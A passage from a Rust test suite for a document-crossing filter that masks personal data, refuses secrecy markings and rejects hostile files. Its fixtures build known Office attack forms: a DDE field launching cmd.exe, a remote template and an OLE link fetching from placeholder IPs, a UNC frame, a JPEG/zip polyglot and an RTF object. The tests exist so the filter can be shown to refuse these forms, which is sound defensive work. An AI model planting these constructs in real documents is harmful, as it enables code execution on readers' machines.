        let r = judge(&p, "a.amr", b"#!/bin/sh\necho\n").0.unwrap_err();
        assert_eq!(r.reason, Reason::TypeRefused);
    }

    #[test]
    fn the_evaluator_judges_bytes_and_masks_into_a_writer() {
        let p = outbound();
        // a resident id (valid check digit) in plain text: masked, not refused
        let text = "当事人身份证号 11010519491231002X 已核实\n第二行\n";
        let (verdict, masked) = judge(&p, "名单.txt", text.as_bytes());
        assert_eq!(verdict, Ok(1), "{verdict:?}");
        let masked = String::from_utf8(masked).unwrap();
        assert!(!masked.contains("11010519491231002X"), "{masked}");
        assert!(masked.ends_with("第二行\n"), "{masked}");
        // a keyword is refused, with the line it is on
        let (verdict, _) = judge(&p, "a.txt", "一\n本材料不得外传\n".as_bytes());
        let r = verdict.unwrap_err();
        assert_eq!(r.reason, Reason::KeywordMatch);
        assert!(r.detail.contains("line 2"), "{}", r.detail);
        // the name is text too
        let (verdict, _) = judge(&p, "机密-判决.txt", b"clean\n");
        assert_eq!(verdict.unwrap_err().reason, Reason::ClassificationMarking);
        // content that disagrees with its extension never reaches the rules
        let (verdict, _) = judge(&p, "a.pdf", b"plain text\n");
        assert!(verdict.is_err());
    }

    /// The lab's inbound policy, as shipped.
    fn inbound() -> Policy {
        Policy::parse(
            Path::new("to-court.toml"),
            include_str!("../../policy/to-court.toml"),
        )
        .unwrap()
    }

    /// A real-world case handed to us (`tests/cases/`).
    fn case(path: &str) -> Vec<u8> {
        std::fs::read(
            Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("tests/cases")
                .join(path),
        )
        .unwrap()
    }

    fn gbk(s: &str) -> Vec<u8> {
        encoding_rs::GBK.encode(s).0.into_owned()
    }

    #[test]
    fn a_zip_from_chinese_windows_crosses_and_its_names_read_as_written() {
        let (verdict, _) = judge(
            &inbound(),
            "evidence-gbk-names.zip",
            &case("to-court/evidence-gbk-names.zip"),
        );
        assert_eq!(verdict, Ok(0));
        // a refusal inside names the entry as its author wrote it, not as mojibake
        let zip = raw_zip(&[
            (
                &gbk("起诉材料/证据目录.txt"),
                0,
                b"",
                "证据一：合同\n".as_bytes(),
            ),
            (&gbk("起诉材料/证据二.exe"), 0, b"", b"MZ"),
        ]);
        let refusal = judge(&inbound(), "证据.zip", &zip).0.unwrap_err();
        assert!(refusal.detail.contains("起诉材料/证据二.exe"), "{refusal}");
        // the text rules see the decoded names too
        let zip = raw_zip(&[(&gbk("机密/目录.txt"), 0, b"", b"x\n")]);
        let refusal = judge(&outbound_with_zip(), "a.zip", &zip).0.unwrap_err();
        assert_eq!(refusal.reason, Reason::ClassificationMarking, "{refusal}");
    }

    /// The outbound policy with zip allowed, to see names inside archives judged.
    fn outbound_with_zip() -> Policy {
        let text = include_str!("../../policy/to-internet.toml")
            .replace("extensions = [\"pdf\"", "extensions = [\"zip\", \"pdf\"")
            .replace("allow = [\"pdf\"", "allow = [\"zip\", \"pdf\"");
        Policy::parse(Path::new("to-internet.toml"), &text).unwrap()
    }

    #[test]
    fn a_zip_from_macos_crosses_with_its_metadata_checked_as_what_it_is() {
        use unicode_normalization::UnicodeNormalization;
        let nfd: String = "起诉材料/Café-が.txt".nfd().collect();
        let mut apple_double = vec![0, 5, 0x16, 7, 0, 2, 0, 0];
        apple_double.extend_from_slice(b"Mac OS X        ");
        apple_double.extend_from_slice(&1u16.to_be_bytes());
        apple_double.extend_from_slice(&9u32.to_be_bytes());
        apple_double.extend_from_slice(&38u32.to_be_bytes());
        apple_double.extend_from_slice(&32u32.to_be_bytes());
        apple_double.extend_from_slice(&[0; 32]);
        let mut store = b"\0\0\0\x01Bud1".to_vec();
        store.resize(64, 0);
        let companion: String = "__MACOSX/起诉材料/._Café-が.txt".nfd().collect();
        let zip = raw_zip(&[
            (nfd.as_bytes(), 0, b"", b"statement\n"),
            (companion.as_bytes(), 0, b"", &apple_double),
            ("起诉材料/.DS_Store".as_bytes(), 0, b"", &store),
        ]);
        assert_eq!(judge(&inbound(), "证据.zip", &zip).0, Ok(0));
        // something else under an Apple name is refused for what it is
        let zip = raw_zip(&[("起诉材料/._x.txt".as_bytes(), 0, b"", b"MZ\x90\0")]);
        let refusal = judge(&inbound(), "证据.zip", &zip).0.unwrap_err();
        assert_eq!(refusal.reason, Reason::ContentUnreadable, "{refusal}");
        assert!(refusal.detail.contains("AppleDouble"), "{refusal}");
        // other names starting with a dot are still refused
        let zip = raw_zip(&[(b".bashrc", 0, b"", b"x\n")]);
        assert_eq!(
            judge(&inbound(), "证据.zip", &zip).0.unwrap_err().reason,
            Reason::NameRefused
        );
    }

    #[test]
    fn a_unicode_path_field_naming_another_file_is_refused() {
        let field = |name: &[u8], unicode: &str| {
            let mut crc = flate2::Crc::new();
            crc.update(name);
            let mut f = 0x7075u16.to_le_bytes().to_vec();
            f.extend_from_slice(&((5 + unicode.len()) as u16).to_le_bytes());
            f.push(1);
            f.extend_from_slice(&crc.sum().to_le_bytes());
            f.extend_from_slice(unicode.as_bytes());
            f
        };
        let raw = gbk("证据目录.txt");
        let agrees = field(&raw, "证据目录.txt");
        let zip = raw_zip(&[(&raw, 0, &agrees, b"list\n")]);
        assert_eq!(judge(&inbound(), "证据.zip", &zip).0, Ok(0));
        let other = field(b"readme.txt", "readme.cmd");
        let zip = raw_zip(&[(b"readme.txt", 0, &other, b"echo\n")]);
        let refusal = judge(&inbound(), "证据.zip", &zip).0.unwrap_err();
        assert_eq!(refusal.reason, Reason::ArchivePath, "{refusal}");
        assert!(refusal.detail.contains("different files"), "{refusal}");
    }

    #[test]
    fn utf16_text_crosses_inbound_and_is_judged_and_masked_outbound() {
        let utf16 = |t: &str| {
            let mut out = vec![0xFF, 0xFE];
            t.encode_utf16()
                .for_each(|u| out.extend_from_slice(&u.to_le_bytes()));
            out
        };
        let statement = utf16("证据说明\r\n一、借条原件。\r\n");
        assert_eq!(judge(&inbound(), "证据说明.txt", &statement).0, Ok(0));
        let refusal = judge(&outbound(), "通知.txt", &utf16("本文件 机密★10年\r\n"))
            .0
            .unwrap_err();
        assert_eq!(refusal.reason, Reason::ClassificationMarking);
        let (verdict, masked) = judge(&outbound(), "名单.txt", &utf16("电话 13800138000\r\n"));
        assert_eq!(verdict, Ok(1));
        assert_eq!(masked, utf16("电话 138****8000\r\n"));
        // text in an encoding not read: a reason that says so, not "unknown"
        let refusal = judge(&inbound(), "a.txt", &utf16("plain latin text here")[2..])
            .0
            .unwrap_err();
        assert_eq!(refusal.reason, Reason::TextEncoding, "{refusal}");
        assert!(refusal.detail.contains("UTF-16"), "{refusal}");
    }

    #[test]
    fn a_refusal_after_a_line_cut_in_pieces_names_its_own_line() {
        // line 1 is longer than the scanner's buffer (2 MiB), so it is cut into pieces of at
        // most MAX_LINE (1 MiB); the keyword, the mobile number and the marking are on the
        // lines after it
        let mut text = b"abc ".repeat(600 * 1024);
        text.extend_from_slice("\n本材料为内部资料\n".as_bytes());
        let refusal = judge(&outbound(), "长行.txt", &text).0.unwrap_err();
        assert_eq!(refusal.reason, Reason::KeywordMatch, "{refusal}");
        assert!(refusal.detail.starts_with("line 2: "), "{refusal}");
        let mut text = b"abc ".repeat(600 * 1024);
        text.extend_from_slice("\n第二行\n电话 13800138000\n".as_bytes());
        let (verdict, masked) = judge(&outbound(), "长行.txt", &text);
        assert_eq!(verdict, Ok(1), "one line masked");
        assert!(masked.ends_with("电话 138****8000\n".as_bytes()));
        // the same rules, refusing personal data: the scan that masks nothing
        let strict = Policy::parse(
            Path::new("strict.toml"),
            &include_str!("../../policy/to-internet.toml")
                .replace("action = \"mask\"", "action = \"refuse\""),
        )
        .unwrap();
        assert!(!masks(
            &strict,
            &crate::content::detect::detect(b"a", "txt")
        ));
        let mut text = b"abc ".repeat(600 * 1024);
        text.extend_from_slice("\n第二行\n第三行 机密★10年\n".as_bytes());
        let refusal = judge(&strict, "长行.txt", &text).0.unwrap_err();
        assert_eq!(refusal.reason, Reason::ClassificationMarking, "{refusal}");
        assert!(refusal.detail.starts_with("line 3: "), "{refusal}");
    }

    #[test]
    fn text_that_turns_binary_after_its_head_is_refused_with_or_without_text_rules() {
        use std::io::Write as _;
        // over 8 KiB of GBK text (the head detection reads), then an ELF program
        let text = encoding_rs::GB18030
            .encode(&"本院依法组成合议庭，公开开庭审理了本案。\r\n".repeat(300))
            .0
            .into_owned();
        assert!(text.len() > HEAD_LEN);
        let mut smuggled = text.clone();
        smuggled.extend_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0");
        assert!(
            !inbound().reads_text(),
            "the inbound lab policy has no text rules"
        );
        for policy in [outbound(), inbound()] {
            assert_eq!(judge(&policy, "开庭笔录.txt", &text).0, Ok(0));
            let refusal = judge(&policy, "开庭笔录.txt", &smuggled).0.unwrap_err();
            assert_eq!(refusal.reason, Reason::TextEncoding, "{refusal}");
            assert!(
                refusal
                    .detail
                    .contains("line 301 holds the control character U+007F (DEL)"),
                "{refusal}"
            );
        }
        // inside a zip, the entry is named
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        w.start_file(
            "卷宗/开庭笔录.txt",
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
        w.write_all(&smuggled).unwrap();
        let zipped = w.finish().unwrap().into_inner();
        let refusal = judge(&inbound(), "卷宗.zip", &zipped).0.unwrap_err();
        assert_eq!(refusal.reason, Reason::TextEncoding, "{refusal}");
        assert!(refusal.detail.contains("开庭笔录.txt"), "{refusal}");
        assert!(refusal.detail.contains("U+007F (DEL)"), "{refusal}");
    }

    /// A docx of the given extra parts over a minimal document saying `body`.
    fn docx(body: &str, extra: &[(&str, &str)]) -> Vec<u8> {
        use std::io::Write as _;
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default();
        let document = format!(
            r#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>"#
        );
        let mut parts = vec![
            ("[Content_Types].xml", r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#.to_string()),
            ("_rels/.rels", r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#.to_string()),
            ("word/document.xml", document),
        ];
        parts.extend(extra.iter().map(|(n, x)| (*n, x.to_string())));
        for (name, xml) in parts {
            w.start_file(name, opts).unwrap();
            w.write_all(xml.as_bytes()).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    fn paragraph(text: &str) -> String {
        format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
    }

    const DOC_RELS: &str = "word/_rels/document.xml.rels";

    fn rels(kind: &str, target: &str, external: bool) -> String {
        let mode = if external {
            r#" TargetMode="External""#
        } else {
            ""
        };
        format!(
            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>"#
        )
    }

    /// `text` as UTF-16LE, its byte-order mark first; without it when `bom` is false.
    fn utf16le(text: &str, bom: bool) -> Vec<u8> {
        let mut out = if bom { vec![0xFF, 0xFE] } else { Vec::new() };
        out.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
        out
    }

    /// The docx of [`docx`] (body `body`) with `part` replaced by `bytes`.
    fn docx_with(body: &str, part: &str, bytes: &[u8]) -> Vec<u8> {
        use std::io::{Read as _, Write as _};
        let plain = match part {
            "word/document.xml" => docx(body, &[]),
            _ => docx(body, &[(part, "")]),
        };
        let mut from = zip::ZipArchive::new(std::io::Cursor::new(plain)).unwrap();
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default();
        for i in 0..from.len() {
            let mut e = from.by_index(i).unwrap();
            let name = e.name().to_string();
            let mut data = Vec::new();
            e.read_to_end(&mut data).unwrap();
            w.start_file(name.as_str(), opts).unwrap();
            w.write_all(if name == part { bytes } else { &data })
                .unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    #[test]
    fn package_parts_saved_as_utf16_are_read_not_passed_over() {
        // the remote template of the real-world case, its relationships in UTF-16
        let template = r#"<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.23/t.dotm" TargetMode="External"/></Relationships>"#;
        let settings = "word/_rels/settings.xml.rels";
        let bytes = docx_with(&paragraph("正文"), settings, &utf16le(template, true));
        let r = judge(&inbound(), "a.docx", &bytes).0.unwrap_err();
        assert_eq!(r.reason, Reason::ActiveContent, "{r}");
        assert!(r.detail.contains("attachedTemplate → external http"), "{r}");
        // the document part itself in UTF-16: its text is read
        let document = |text: &str| {
            utf16le(
                &format!(
                    r#"<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>"#,
                    paragraph(text)
                ),
                true,
            )
        };
        let main = "word/document.xml";
        let marked = docx_with("", main, &document("本件 机密★10年"));
        let r = judge(&outbound(), "a.docx", &marked).0.unwrap_err();
        assert_eq!(r.reason, Reason::ClassificationMarking, "{r}");
        let plain = docx_with("", main, &document("民事判决书"));
        assert_eq!(judge(&outbound(), "a.docx", &plain).0, Ok(0));
        // UTF-16 without its mark, and UTF-16 that is not well-formed: unreadable
        let unmarked = utf16le(template, false);
        let bare = docx_with(&paragraph("正文"), settings, &unmarked);
        let r = judge(&inbound(), "a.docx", &bare).0.unwrap_err();
        assert_eq!(r.reason, Reason::ContentUnreadable, "{r}");
        assert!(r.detail.contains("without a byte-order mark"), "{r}");
        let mut lone = utf16le(template, true);
        lone.extend_from_slice(&[0x00, 0xD8, 0x41, 0x00]);
        let broken = docx_with(&paragraph("正文"), settings, &lone);
        let r = judge(&inbound(), "a.docx", &broken).0.unwrap_err();
        assert_eq!(r.reason, Reason::ContentUnreadable, "{r}");
        assert!(r.detail.contains("not well-formed UTF-16"), "{r}");
    }

    #[test]
    fn the_real_world_remote_template_is_refused_as_active_content() {
        let refusal = judge(
            &inbound(),
            "remote-template.docx",
            &case("to-court/remote-template.docx"),
        )
        .0
        .unwrap_err();
        assert_eq!(refusal.reason, Reason::ActiveContent, "{refusal}");
        assert!(
            refusal
                .detail
                .contains("word/_rels/settings.xml.rels: attachedTemplate → external http target"),
            "{refusal}"
        );
    }

    #[test]
    fn documents_that_reach_outside_are_refused_and_their_twins_cross() {
        let body = paragraph("民事起诉状");
        let hyperlink = rels("hyperlink", "https://www.court.gov.cn/", true);
        let twin = docx(&body, &[(DOC_RELS, &hyperlink)]);
        for p in [inbound(), outbound()] {
            assert_eq!(
                judge(&p, "起诉状.docx", &twin).0,
                Ok(0),
                "ordinary hyperlinks cross"
            );
        }
        let dde = format!(
            r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\windows\system32\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>{body}"#
        );
        // the 2017 obfuscation: a nested QUOTE field spells the keyword
        let quoted = format!(
            r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> c:\windows\system32\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>{body}"#
        );
        let hostile: Vec<(&str, Vec<u8>, &str)> = vec![
            ("DDE field", docx(&dde, &[]), "field DDEAUTO"),
            (
                "keyword built by a nested field",
                docx(&quoted, &[]),
                "keyword is built by a nested field",
            ),
            (
                "mhtml OLE link",
                docx(
                    &body,
                    &[(
                        DOC_RELS,
                        &rels(
                            "oleObject",
                            "mhtml:http://198.51.100.7/a.html!x-usc:http://198.51.100.7/a",
                            true,
                        ),
                    )],
                ),
                "oleObject → external mhtml",
            ),
            (
                "altChunk",
                docx(&body, &[(DOC_RELS, &rels("aFChunk", "afchunk.mht", false))]),
                "altChunk",
            ),
            (
                "UNC frame",
                docx(
                    &body,
                    &[(
                        DOC_RELS,
                        &rels("frame", r"\\198.51.100.7\share\f.html", true),
                    )],
                ),
                "frame → external UNC",
            ),
        ];
        for (what, bytes, detail) in hostile {
            let refusal = judge(&inbound(), "起诉状.docx", &bytes).0.unwrap_err();
            assert_eq!(refusal.reason, Reason::ActiveContent, "{what}: {refusal}");
            assert!(refusal.detail.contains(detail), "{what}: {refusal}");
        }
        // a policy that refuses hyperlinks refuses the twin
        let strict = include_str!("../../policy/to-internet.toml")
            .replace("hyperlinks = \"allow\"", "hyperlinks = \"refuse\"");
        let strict = Policy::parse(Path::new("strict.toml"), &strict).unwrap();
        let refusal = judge(&strict, "起诉状.docx", &twin).0.unwrap_err();
        assert_eq!(refusal.reason, Reason::ActiveContent, "{refusal}");
    }

    #[test]
    fn a_picture_inside_a_document_is_walked_like_a_picture() {
        let mut jpeg = b"\xff\xd8\xff\xdb\x00\x43".to_vec();
        jpeg.extend_from_slice(&[0; 65]);
        jpeg.extend_from_slice(b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\x34\xff\xd9");
        let with_picture = |picture: &[u8]| {
            let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
            let o = zip::write::SimpleFileOptions::default();
            for (name, body) in [
                ("[Content_Types].xml", &b"<Types/>"[..]),
                (
                    "word/document.xml",
                    b"<w:document xmlns:w=\"w\"><w:body/></w:document>",
                ),
                ("word/media/image1.jpeg", picture),
            ] {
                w.start_file(name, o).unwrap();
                std::io::Write::write_all(&mut w, body).unwrap();
            }
            w.finish().unwrap().into_inner()
        };
        assert_eq!(
            judge(&inbound(), "证据.docx", &with_picture(&jpeg)).0,
            Ok(0)
        );
        let mut polyglot = jpeg.clone();
        polyglot.extend_from_slice(&crate::content::archive::testing::raw_zip(&[(
            b"run.cmd", 0, b"", b"calc",
        )]));
        let r = judge(&inbound(), "证据.docx", &with_picture(&polyglot))
            .0
            .unwrap_err();
        assert_eq!(r.reason, Reason::Polyglot, "{r}");
        assert!(r.detail.contains("word/media/image1.jpeg"), "{r}");
    }

    #[test]
    fn rtf_is_read_and_its_objects_refused_and_a_disguised_rtf_is_caught() {
        let allow_rtf = |text: &str| {
            let text = text
                .replace(
                    "extensions = [\"pdf\"",
                    "extensions = [\"rtf\", \"doc\", \"pdf\"",
                )
                .replace("allow = [\"pdf\"", "allow = [\"rtf\", \"pdf\"");
            Policy::parse(Path::new("p.toml"), &text).unwrap()
        };
        let inbound = allow_rtf(include_str!("../../policy/to-court.toml"));
        let outbound = allow_rtf(include_str!("../../policy/to-internet.toml"));
        let clean = br"{\rtf1\ansi\ansicpg936 \'c3\'f1\'ca\'c2\'c6\'f0\'cb\'df\'d7\'b4\par}";
        assert_eq!(judge(&inbound, "起诉状.rtf", clean).0, Ok(0));
        assert_eq!(judge(&outbound, "起诉状.rtf", clean).0, Ok(0));
        let marked = br"{\rtf1\ansi\ansicpg936 \'bb\'fa\'c3\'dc\par}";
        let r = judge(&outbound, "通知.rtf", marked).0.unwrap_err();
        assert_eq!(r.reason, Reason::ClassificationMarking, "{r}");
        let object = br"{\rtf1{\object\objocx{\*\objdata 0105}}}";
        let r = judge(&inbound, "起诉状.rtf", object).0.unwrap_err();
        assert_eq!(r.reason, Reason::ActiveContent, "{r}");
        // RTF renamed .doc (how CVE-2017-0199 documents travelled) does not pass as Word
        let r = judge(&inbound, "起诉状.doc", clean).0.unwrap_err();
        assert_eq!(r.reason, Reason::TypeMismatch, "{r}");
    }

    #[test]
    fn long_chinese_titles_with_full_width_punctuation_are_allowed() {
        let title = "关于（2026）吉01民初123号原告某某科技有限公司诉被告某某网络服务有限公司\
                     侵害作品信息网络传播权纠纷一案的“民事判决书”：送达回证【第二次】.txt";
        assert!(title.len() > 200 && title.len() <= 255, "{}", title.len());
        for p in [inbound(), outbound()] {
            assert_eq!(judge(&p, title, b"clean\n").0, Ok(0));
        }
    }
}

#[cfg(test)]
mod ofd_tests {
    use super::*;

    const NS: &str = ofd::NAMESPACE;

    fn outbound() -> Policy {
        Policy::parse(
            Path::new("to-internet.toml"),
            include_str!("../../policy/to-internet.toml"),
        )
        .unwrap()
    }

    fn inbound() -> Policy {
        Policy::parse(
            Path::new("to-court.toml"),
            include_str!("../../policy/to-court.toml"),
        )
        .unwrap()
    }

    /// A policy allowing OFD that reads text for `keywords` and refuses actions as `active`.
    fn keywords(keywords: &str, active: bool) -> Policy {
        Policy::parse(
            Path::new("k.toml"),
            &format!(
                r#"
[names]
max_length = 200
extensions = ["ofd"]
[size]
max_bytes = 1000000
[types]
allow = ["ofd"]
[archives]
max_depth = 3
max_entries = 100
max_ratio = 100
[text]
keywords = [{keywords}]
[pdf]
refuse_active = {active}
"#
            ),
        )
        .unwrap()
    }

    fn judge(policy: &Policy, name: &str, content: &[u8]) -> Result<u64, Refusal> {
        let head = &content[..content.len().min(HEAD_LEN)];
        let detected = admit(policy, name, content.len() as u64, head)?;
        let mut input = content;
        evaluate(
            policy,
            name,
            &detected,
            head,
            Input::Stream(&mut input),
            None,
            &std::env::temp_dir(),
        )
        .unwrap()
    }

    fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let deflated = zip::write::SimpleFileOptions::default();
        for (name, data) in entries {
            w.start_file(*name, deflated).unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    const MAIN: &str = r#"<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.1" DocType="OFD"><ofd:DocBody><ofd:DocInfo><ofd:DocID>a1</ofd:DocID><ofd:Title>判决书</ofd:Title></ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"#;

    /// An OFD whose document carries `actions` (inside `ofd:Actions`) and whose one page
    /// holds `layer` (inside `ofd:Layer`), with `extra` entries.
    fn ofd_with(actions: &str, layer: &str, extra: &[(&str, &[u8])]) -> Vec<u8> {
        let document = format!(
            r#"<ofd:Document xmlns:ofd="{NS}"><ofd:CommonData><ofd:MaxUnitID>9</ofd:MaxUnitID><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages><ofd:Actions>{actions}</ofd:Actions></ofd:Document>"#
        );
        let content = format!(
            r#"<ofd:Page xmlns:ofd="{NS}"><ofd:Content><ofd:Layer ID="2">{layer}</ofd:Layer></ofd:Content></ofd:Page>"#
        );
        let mut entries: Vec<(&str, &[u8])> = vec![
            ("OFD.xml", MAIN.as_bytes()),
            ("Doc_0/Document.xml", document.as_bytes()),
            ("Doc_0/Pages/Page_0/Content.xml", content.as_bytes()),
        ];
        entries.extend_from_slice(extra);
        zip_of(&entries)
    }

    fn text_object(y: u32, codes: &[&str]) -> String {
        let codes: String = codes
            .iter()
            .enumerate()
            .map(|(i, c)| format!(r#"<ofd:TextCode X="{}" Y="5">{c}</ofd:TextCode>"#, i * 10))
            .collect();
        format!(
            r#"<ofd:TextObject ID="3" Boundary="10 {y} 100 8" Font="4" Size="5">{codes}</ofd:TextObject>"#
        )
    }

    #[test]
    fn ofd_text_is_read_and_a_marking_refused() {
        let p = outbound();
        let clean = ofd_with("", &text_object(20, &["民事判决书"]), &[]);
        assert_eq!(judge(&p, "判决.ofd", &clean), Ok(0));
        let marked = ofd_with("", &text_object(20, &["本文件为机密文件"]), &[]);
        let r = judge(&p, "判决.ofd", &marked).unwrap_err();
        assert_eq!(r.reason, Reason::ClassificationMarking, "{r}");
        assert!(
            r.detail
                .starts_with("part Doc_0/Pages/Page_0/Content.xml: "),
            "{r}"
        );
    }

    #[test]
    fn a_marking_split_over_codes_or_objects_on_one_line_is_refused() {
        let p = outbound();
        let codes = ofd_with("", &text_object(20, &["机", "密"]), &[]);
        let r = judge(&p, "a.ofd", &codes).unwrap_err();
        assert_eq!(r.reason, Reason::ClassificationMarking, "{r}");
        let objects = format!(
            "{}{}",
            text_object(20, &["机"]),
            text_object(20, &["密★10年"])
        );
        let r = judge(&p, "a.ofd", &ofd_with("", &objects, &[])).unwrap_err();
        assert_eq!(r.reason, Reason::ClassificationMarking, "{r}");
        // the same two characters on two lines are two lines
        let apart = format!(
            "{}{}",
            text_object(20, &["有机"]),
            text_object(60, &["密码"])
        );
        assert_eq!(judge(&p, "a.ofd", &ofd_with("", &apart, &[])), Ok(0));
    }

    #[test]
    fn ofd_actions_are_active_content_and_goto_is_not() {
        let p = outbound();
        for (action, shown) in [
            (
                r#"<ofd:URI URI="http://192.0.2.7/track"/>"#,
                "action URI → http://192.0.2.7/track",
            ),
            (
                r#"<ofd:GotoA AttachID="5"/>"#,
                "action GotoA → attachment 5",
            ),
            (
                r#"<ofd:Sound ResourceID="6"/>"#,
                "action Sound → resource 6",
            ),
            (
                r#"<ofd:Movie ResourceID="7"/>"#,
                "action Movie → resource 7",
            ),
        ] {
            let actions = format!(r#"<ofd:Action Event="DO">{action}</ofd:Action>"#);
            let r = judge(&p, "a.ofd", &ofd_with(&actions, "", &[])).unwrap_err();
            assert_eq!(r.reason, Reason::ActiveContent, "{r}");
            assert_eq!(r.detail, format!("part Doc_0/Document.xml: {shown}"));
            // refused on a page and a graphic unit too; allowed where the switch is off
            let on_page = format!(
                r#"<ofd:TextObject ID="3" Boundary="0 0 9 9"><ofd:Actions><ofd:Action Event="CLICK">{action}</ofd:Action></ofd:Actions><ofd:TextCode Y="5">x</ofd:TextCode></ofd:TextObject>"#
            );
            let r = judge(&p, "a.ofd", &ofd_with("", &on_page, &[])).unwrap_err();
            assert_eq!(r.reason, Reason::ActiveContent, "{r}");
            let off = keywords("\"x-none\"", false);
            assert_eq!(judge(&off, "a.ofd", &ofd_with(&actions, "", &[])), Ok(0));
        }
        let goto = r#"<ofd:Action Event="CLICK"><ofd:Goto><ofd:Dest Type="XYZ" PageID="1"/></ofd:Goto></ofd:Action>"#;
        assert_eq!(judge(&p, "a.ofd", &ofd_with(goto, "", &[])), Ok(0));
    }

    #[test]
    fn ofd_attachments_are_judged_like_files() {
        let list = format!(
            r#"<ofd:Attachments xmlns:ofd="{NS}"><ofd:Attachment ID="1" Name="附件"><ofd:FileLoc>/Doc_0/Attachs/a.bin</ofd:FileLoc></ofd:Attachment></ofd:Attachments>"#
        );
        let elf: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0rest";
        let p = outbound();
        let r = judge(
            &p,
            "a.ofd",
            &ofd_with("", "", &[("Doc_0/Attachs/a.bin", elf)]),
        )
        .unwrap_err();
        assert_eq!(r.reason, Reason::TypeRefused, "{r}");
        assert!(r.detail.starts_with("part Doc_0/Attachs/a.bin: "), "{r}");
        // a text attachment is read by the rules
        let note = "说明\n本材料不得外传\n".as_bytes();
        let r = judge(
            &p,
            "a.ofd",
            &ofd_with("", "", &[("Doc_0/Attachs/note.txt", note)]),
        )
        .unwrap_err();
        assert_eq!(r.reason, Reason::KeywordMatch, "{r}");
        let clean = "说明\n".as_bytes();
        let ok = ofd_with("", "", &[("Doc_0/Attachs/note.txt", clean)]);
        assert_eq!(judge(&p, "a.ofd", &ok), Ok(0));
        // an attachment of a type that cannot be inspected, listed after it or before it
        let blob: &[u8] = b"\x00\x01\x02opaque\xff\xfe";
        let after = ofd_with(
            "",
            "",
            &[
                ("Doc_0/a.bin", blob),
                (
                    "Doc_0/Attachments.xml",
                    list.replace("/Doc_0/Attachs/", "").as_bytes(),
                ),
            ],
        );
        let r = judge(&p, "a.ofd", &after).unwrap_err();
        assert_eq!(r.reason, Reason::ContentUnreadable, "{r}");
        let before = ofd_with(
            "",
            "",
            &[
                ("Doc_0/Attachs/Attachments.xml", list.as_bytes()),
                ("Doc_0/Attachs/a.bin", blob),
            ],
        );
        assert_eq!(
            judge(&p, "a.ofd", &before).unwrap_err().reason,
            Reason::ContentUnreadable
        );
        // the same bytes as a signature value, and a font and an image, are resources
        let png: &[u8] = &[
            0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52,
            0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0x0a, 0x49,
            0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0, 1, 0, 0, 5, 0, 1, 0x0d, 0x0a, 0x2d, 0xb4, 0, 0,
            0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
        ];
        let ttf = b"\x00\x01\x00\x00\x00\x0c\x00\x80\x00\x03";
        let resources = ofd_with(
            "",
            "",
            &[
                ("Doc_0/Signs/Sign_0/SignedValue.dat", blob),
                ("Doc_0/Res/font_4.ttf", ttf),
                ("Doc_0/Res/image_5.png", png),
            ],
        );
        assert_eq!(judge(&p, "a.ofd", &resources), Ok(0));
    }

    #[test]
    fn an_ofd_inside_an_office_document_is_read() {
        let p = outbound();
